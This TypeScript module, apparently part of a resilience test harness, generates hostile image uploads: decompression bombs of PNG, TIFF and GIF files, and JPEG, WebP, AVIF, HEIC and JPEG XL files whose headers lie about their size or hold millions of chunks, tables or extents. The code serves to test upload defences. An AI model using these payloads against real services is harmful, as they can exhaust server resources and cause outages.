import { readFile } from 'node:fs/promises'
import { deflateSync } from 'node:zlib'
import sharp from 'sharp'
import type { Attack } from '../attack.ts'
import { blackPng, chunk, SIGNATURE, u32 } from '../files.ts'
import { lyingJxl } from '../lying-jxl.ts'
import { type HostileFile, uploadAll } from '../uploads.ts'

const zeros = (bytes: number): Buffer => deflateSync(Buffer.alloc(bytes), { level: 9 })

/** Classic TIFF, little-endian, with one strip of deflated grey. */
const tiff = (width: number, height: number, strip: Buffer): Buffer => {
  const entry = (tag: number, value: number): Buffer => {
    const row = Buffer.alloc(12)
    row.writeUInt16LE(tag, 0)
    row.writeUInt16LE(4, 2)
    row.writeUInt32LE(1, 4)
    row.writeUInt32LE(value, 8)
    return row
  }
  const rows = [
    [256, width],
    [257, height],
    [258, 8],
    [259, 8],
    [262, 1],
    [273, 8 + 2 + 9 * 12 + 4],
    [277, 1],
    [278, height],
    [279, strip.length],
  ] as const
  const count = Buffer.of(rows.length, 0)
  return Buffer.concat([
    Buffer.from('II*\0\x08\0\0\0', 'latin1'),
    count,
    ...rows.map(([tag, value]) => entry(tag, value)),
    Buffer.alloc(4),
    strip,
  ])
}

const GIF_FRAME = Buffer.from([0x21, 0xf9, 4, 0, 1, 0, 0, 0, 0x2c, 0, 0, 0, 0, 1, 0, 1, 0, 0, 2, 2, 0x44, 1, 0])
const gif = (frames: number, side: number): Buffer => {
  const screen = Buffer.from([side & 255, side >> 8, side & 255, side >> 8, 0x80, 0, 0, 0, 0, 0, 255, 255, 255])
  return Buffer.concat([
    Buffer.from('GIF89a'),
    screen,
    ...Array.from({ length: frames }, () => GIF_FRAME),
    Buffer.of(0x3b),
  ])
}

const gradient = (side: number) =>
  sharp(Buffer.from(Array.from({ length: side * side * 3 }, (_, i) => (i * 7) & 255)), {
    raw: { width: side, height: side, channels: 3 },
  })

/** A progressive JPEG whose first scan stands there again and again. */
const manyScans = async (scans: number): Promise<Buffer> => {
  const jpeg = await gradient(400).resize(4000, 4000).jpeg({ progressive: true, quality: 30 }).toBuffer()
  const first = jpeg.indexOf(Buffer.of(0xff, 0xda))
  let end = first + 2
  while (!(jpeg[end] === 0xff && jpeg[end + 1] !== 0 && (jpeg[end + 1]! < 0xd0 || jpeg[end + 1]! > 0xd7))) end += 1
  const scan = jpeg.subarray(first, end)
  return Buffer.concat([jpeg.subarray(0, end), ...Array.from({ length: scans }, () => scan), jpeg.subarray(end)])
}

const lyingJpeg = async (side: number): Promise<Buffer> => {
  const jpeg = await gradient(64).jpeg().toBuffer()
  const frame = jpeg.indexOf(Buffer.of(0xff, 0xc0))
  jpeg.writeUInt16BE(side, frame + 5)
  jpeg.writeUInt16BE(side, frame + 7)
  return jpeg
}

const lyingWebp = async (): Promise<Buffer> => {
  const webp = await gradient(64).webp().toBuffer()
  const header = Buffer.from('VP8X\x0a\0\0\0\0\0\0\0\x0f\x27\0\x0f\x27\0', 'latin1')
  const whole = Buffer.concat([webp.subarray(0, 12), header, webp.subarray(12)])
  whole.writeUInt32LE(whole.length - 8, 4)
  return whole
}

const lyingAvif = async (side: number): Promise<Buffer> => {
  const avif = await gradient(64).avif({ effort: 0 }).toBuffer()
  const at = avif.indexOf('ispe', 0, 'latin1')
  avif.writeUInt32BE(side, at + 8)
  avif.writeUInt32BE(side, at + 12)
  return avif
}

const fixture = (name: string): Promise<Buffer> => readFile(new URL(`../../fixtures/source/${name}`, import.meta.url))

/** Every `ispe` of an HEIC: its tiles' and its own. */
const lyingHeic = async (side: number): Promise<Buffer> => {
  const heic = await fixture('kodim23-190x158.heic')
  for (let at = heic.indexOf('ispe'); at >= 0; at = heic.indexOf('ispe', at + 4)) {
    heic.writeUInt32BE(side, at + 8)
    heic.writeUInt32BE(side, at + 12)
  }
  return heic
}

/** A codestream out of its container (ISO/IEC 18181-2), or as it is. */
const codestreamOf = (jxl: Buffer): Buffer => {
  const box = jxl.indexOf('jxlc')
  return box < 0 ? jxl : jxl.subarray(box + 4)
}

const jxlOf = async (side: number): Promise<Buffer> => lyingJxl(codestreamOf(await fixture('quarters.jxl')), side)

const u16 = (value: number): Buffer => Buffer.of(value >> 8, value & 255)
const box = (name: string, ...parts: readonly Buffer[]): Buffer => {
  const content = Buffer.concat(parts)
  return Buffer.concat([u32(8 + content.length), Buffer.from(name, 'latin1'), content])
}

/** An AVIF whose items have 65,535 extents of no bytes each. */
const manyExtents = (): Buffer => {
  const item = Buffer.concat([u16(9), u16(0), u16(65_535)])
  const properties = box('ipco', box('ispe', u32(0), u32(64), u32(64)), box('av1C', Buffer.of(0x81, 0, 0, 0)))
  const meta = [
    box('pitm', u32(0), u16(1)),
    box('iloc', u32(0), u16(0), u16(500), Buffer.alloc(item.length * 500, item)),
    box('iprp', properties, box('ipma', u32(0), u32(1), u16(1), Buffer.of(2, 1, 2))),
  ]
  return Buffer.concat([box('ftyp', Buffer.from('avif\0\0\0\0avifmif1')), box('meta', u32(0), ...meta)])
}

/** A TIFF of directories with 4,096 entries each, which overlap. */
export const overlappingTiff = (pages: number): Buffer => {
  const [first, entries] = [40, 4_096]
  const file = Buffer.alloc(first + (pages + 2) * 4 + entries * 12)
  file.write('II*\0\x08\0\0\0\x02\0', 'latin1')
  for (const [i, tag] of [256, 257].entries()) {
    file.writeUInt32LE((4 << 16) | tag, 10 + i * 12)
    file.writeUInt32LE(1, 14 + i * 12)
    file.writeUInt32LE(64, 18 + i * 12)
  }
  file.writeUInt32LE(first, 34)
  for (let page = 0; page < pages; page += 1) {
    file.writeUInt16LE(entries, first + page * 4)
    file.writeUInt32LE(first + (page + 1) * 4, first + page * 4 + 2 + entries * 12)
  }
  return file
}

/** A JPEG with 11 million empty tables after its pixels. */
const manyTables = async (): Promise<Buffer> => {
  const jpeg = await gradient(64).resize(6000, 6000).jpeg({ progressive: true, quality: 30 }).toBuffer()
  const end = jpeg.length - 2
  return Buffer.concat([
    jpeg.subarray(0, end),
    Buffer.alloc(44_000_000, Buffer.of(0xff, 0xdb, 0, 2)),
    jpeg.subarray(end),
  ])
}

export const FILES: readonly HostileFile[] = [
  { name: 'PNG of 30000x30000', make: () => blackPng(30_000, 30_000) },
  { name: 'PNG at the limit, 10000x10000', make: () => blackPng(10_000, 10_000) },
  {
    name: 'PNG, 200 MB in its profile',
    make: () => blackPng(64, 64, chunk('iCCP', Buffer.concat([Buffer.from('x\0\0', 'latin1'), zeros(200_000_000)]))),
  },
  {
    name: 'PNG, 200 MB in its text',
    make: () =>
      blackPng(64, 64, chunk('iTXt', Buffer.concat([Buffer.from('x\0\x01\0\0\0', 'latin1'), zeros(200_000_000)]))),
  },
  {
    name: 'PNG, 200 MB behind its pixels',
    make: () =>
      Buffer.concat([
        SIGNATURE,
        chunk('IHDR', Buffer.concat([u32(64), u32(64), Buffer.of(1, 0, 0, 0, 0)])),
        chunk('IDAT', zeros(200_000_000)),
        chunk('IEND', Buffer.alloc(0)),
      ]),
  },
  {
    name: 'PNG of 300,000 chunks',
    make: () => Buffer.concat([SIGNATURE, ...Array.from({ length: 300_000 }, () => chunk('tEXt', Buffer.alloc(0)))]),
  },
  { name: 'TIFF, 200 MB in a strip', make: () => tiff(64, 64, zeros(200_000_000)) },
  { name: 'TIFF of 60000x60000', make: () => tiff(60_000, 60_000, zeros(1_000)) },
  { name: 'GIF of 10,000 frames', make: () => gif(10_000, 1) },
  { name: 'GIF of 400 frames at 9000x9000', make: () => gif(400, 9_000) },
  { name: 'GIF of 12 frames at 9000x9000', make: () => gif(12, 9_000) },
  {
    name: 'GIF of 49 MB of one-byte blocks',
    make: () =>
      Buffer.concat([
        gif(1, 1).subarray(0, -1),
        Buffer.of(0x21, 0xfe),
        Buffer.alloc(49_000_000, 1),
        Buffer.of(0, 0x3b),
      ]),
  },
  { name: 'JPEG of 500 scans', make: () => manyScans(500) },
  { name: 'JPEG that says 10000x10000', make: () => lyingJpeg(10_000) },
  { name: 'JPEG that says 65500x65500', make: () => lyingJpeg(65_500) },
  {
    name: 'JPEG of 49 MB of 0xff',
    make: async () =>
      Buffer.concat([(await gradient(64).jpeg().toBuffer()).subarray(0, -2), Buffer.alloc(49_000_000, 0xff)]),
  },
  { name: 'JPEG of 11 million empty tables', make: manyTables, options: ['full,timeout=1'] },
  { name: 'TIFF of 4,000 directories that overlap', make: () => overlappingTiff(4_000) },
  { name: 'AVIF of 32 million extents without bytes', make: manyExtents },
  { name: 'WebP that says 10000x10000', make: lyingWebp },
  { name: 'AVIF that says 9000x9000', make: () => lyingAvif(9_000) },
  { name: 'HEIC that says 9000x9000', make: () => lyingHeic(9_000) },
  { name: 'HEIC that says 4294967295x4294967295', make: () => lyingHeic(0xffffffff) },
  { name: 'JPEG XL that says 9000x9000', make: () => jxlOf(9_000) },
  { name: 'JPEG XL that says 1000000000x1000000000', make: () => jxlOf(1_000_000_000) },
  { name: 'AVIF that says 4294967295x4294967295', make: () => lyingAvif(0xffffffff) },
]

/** Small files that unpack to large ones, and files that lie about their size. */
export const BOMBS: Attack = { name: 'bombs', run: (arena) => uploadAll(arena, FILES) }
